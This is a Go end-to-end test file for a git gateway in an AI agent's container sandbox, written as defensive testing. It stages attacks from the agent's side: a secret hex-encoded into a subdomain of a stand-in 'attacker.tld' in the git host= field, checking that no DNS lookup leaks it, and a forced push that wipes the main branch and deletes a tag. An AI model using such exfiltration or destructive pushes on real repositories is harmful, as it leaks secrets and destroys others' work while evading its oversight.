//go:build e2e

package e2e

import (
	"crypto/rand"
	"encoding/hex"
	"fmt"
	"strconv"
	"strings"
	"testing"
)

// TestGateSideDoors plays issue 10's attacks on git-gate from inside a
// docker bottle's guest: a request whose host= carries a secret under the
// attacker's domain makes the bundle send no datagram (git daemon resolved
// it); a forced rewrite of the default branch with a tag deletion is
// refused and logged, a forced push to a topic branch passes and is logged.
func TestGateSideDoors(t *testing.T) {
	tag := uniq()
	w := &world{dir: t.TempDir()}
	w.hostRepo(t)
	w.sshUpstream(t, "e2e-up-"+tag)
	run(t, "docker", "exec", w.upstream, "sh", "-c", "git --git-dir=/srv/git/app.git tag v1.0 main && chown -R git:git /srv/git")
	e := newEnv(t, false)
	name := "e2e-gate-" + tag
	e.stopAtEnd(name)
	e.mustCB("launch", "--detach", "--name", name, "--cwd", w.repo,
		"--upstream", "origin="+w.upURL, "--git-credential", "origin="+w.key, "--known-hosts", w.knownHosts)
	g := guest{t: t, container: "claude-bottle-" + name + "-agent"}
	bundle := "claude-bottle-" + name + "-bundle"

	t.Run("no name lookup for host=", func(t *testing.T) {
		secret := make([]byte, 8)
		rand.Read(secret)
		host := hex.EncodeToString(secret) + ".attacker.tld"
		before := udpOut(t, bundle)
		answer := g.must("node", gateRequestScript(guestSecret(t, g), host))
		after := udpOut(t, bundle)
		if !strings.Contains(answer, "version 2") {
			t.Errorf("the gate did not serve the request; it answered %q", answer)
		}
		if after != before {
			t.Errorf("the bundle sent %d UDP datagram(s) while serving host=%s (a name lookup)", after-before, host)
		}
		if logs := e.mustCB("logs", name); strings.Contains(logs, host) {
			t.Errorf("the bundle's log holds the client's host:\n%s", logs)
		}
		// Control: a lookup in the bundle's namespace moves the counter.
		before = udpOut(t, bundle)
		try("docker", "exec", bundle, "getent", "hosts", "control.invalid")
		if udpOut(t, bundle) == before {
			t.Errorf("control: a lookup in the bundle sent no datagram: the count proves nothing")
		}
	})

	t.Run("ref policy", func(t *testing.T) {
		upstreamRev := func(ref string) string {
			return run(t, "docker", "exec", w.upstream, "git", "--git-dir=/srv/git/app.git", "rev-parse", ref)
		}
		main, v1 := upstreamRev("refs/heads/main"), upstreamRev("refs/tags/v1.0")
		id := "-c user.name=agent -c user.email=a@example.com"
		g.must("node", "git fetch -q --tags origin && git checkout -q --orphan wipe && git "+id+" commit -q --allow-empty -m wiped")
		out, err := g.sh("node", "git push --force origin wipe:main :refs/tags/v1.0 2>&1")
		if err == nil {
			t.Errorf("the rewrite and the deletion were accepted:\n%s", out)
		}
		for _, want := range []string{"git-gate: refs/heads/main: rewriting the default branch", "git-gate: refs/tags/v1.0: deleting a ref is refused"} {
			if !strings.Contains(out+fmt.Sprint(err), want) {
				t.Errorf("the pusher does not see %q:\n%s %v", want, out, err)
			}
		}
		if got := upstreamRev("refs/heads/main"); got != main {
			t.Errorf("upstream main moved to %s", got)
		}
		if got := upstreamRev("refs/tags/v1.0"); got != v1 {
			t.Errorf("upstream v1.0 moved to %s", got)
		}
		g.must("node", "git push -q origin wipe:refs/heads/topic && git "+id+" commit -q --amend --allow-empty -m again && git push -q --force origin wipe:refs/heads/topic")
		if got, want := upstreamRev("refs/heads/topic"), g.must("node", "git rev-parse wipe"); got != want {
			t.Errorf("upstream topic = %s, want the force-pushed %s", got, want)
		}
		logs := e.mustCB("logs", name)
		refused := grep(logs, "refused by its ref policy")
		if !strings.HasPrefix(refused, "[git-gate] ") || !strings.Contains(refused, "refs/heads/main") || !strings.Contains(refused, "refs/tags/v1.0") {
			t.Errorf("claude-bottle logs lacks the refused push:\n%s", logs)
		}
		if forwarded := grep(logs, ":refs/heads/topic]"); !strings.HasPrefix(forwarded, "[git-gate] ") {
			t.Errorf("claude-bottle logs lacks the forwarded pushes:\n%s", logs)
		}
	})
}

// gateRequestScript sends, from the guest, one git:// request for
// origin.git (with the bottle's secret) whose host= is host (protocol v2)
// and prints the answer.
func gateRequestScript(secret, host string) string {
	js := `const s = require("net").connect(9418, "git-gate", () => {
  const p = "git-upload-pack /` + secret + `/origin.git\0host=" + process.argv[1] + "\0\0version=2\0";
  s.write((p.length + 4).toString(16).padStart(4, "0") + p);
});
let got = "";
const timer = setTimeout(() => s.destroy(), 20000);
s.on("data", d => { got += d; if (got.includes("0000")) s.end(); });
s.on("close", () => { clearTimeout(timer); process.stdout.write(got); });`
	return "node -e '" + js + "' " + host
}

// udpOut is the bundle's network namespace's Udp OutDatagrams.
func udpOut(t *testing.T, container string) int {
	t.Helper()
	var names, values []string
	for _, line := range strings.Split(run(t, "docker", "exec", container, "cat", "/proc/net/snmp"), "\n") {
		if f, ok := strings.CutPrefix(line, "Udp: "); ok {
			if names == nil {
				names = strings.Fields(f)
			} else {
				values = strings.Fields(f)
			}
		}
	}
	for i, n := range names {
		if n == "OutDatagrams" && i < len(values) {
			v, err := strconv.Atoi(values[i])
			if err != nil {
				t.Fatal(err)
			}
			return v
		}
	}
	t.Fatalf("no Udp OutDatagrams in %s's /proc/net/snmp", container)
	return 0
}

// grep returns the lines of s holding sub.
func grep(s, sub string) string {
	var out []string
	for _, l := range strings.Split(s, "\n") {
		if strings.Contains(l, sub) {
			out = append(out, l)
		}
	}
	return strings.Join(out, "\n")
}
